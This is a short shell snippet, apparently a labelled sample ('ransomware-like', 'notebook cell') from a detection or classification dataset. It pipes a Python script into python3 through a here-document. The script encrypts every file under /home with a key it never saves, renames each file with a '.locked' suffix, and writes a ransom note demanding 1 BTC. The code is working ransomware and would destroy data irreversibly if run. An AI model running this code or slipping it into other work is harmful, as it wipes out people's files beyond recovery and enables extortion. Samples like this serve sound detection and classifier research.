# class: embedded, here-document, ransomware-like; style: notebook cell
cat <<'CELL' | python3
from pathlib import Path
import os
from cryptography.fernet import Fernet
k = Fernet.generate_key(); f = Fernet(k)
for p in Path("/home").rglob("*.*"):
    if p.is_file():
        p.write_bytes(f.encrypt(p.read_bytes())); p.rename(str(p) + ".locked")
Path("/home/RANSOM.txt").write_text("1 BTC")
CELL
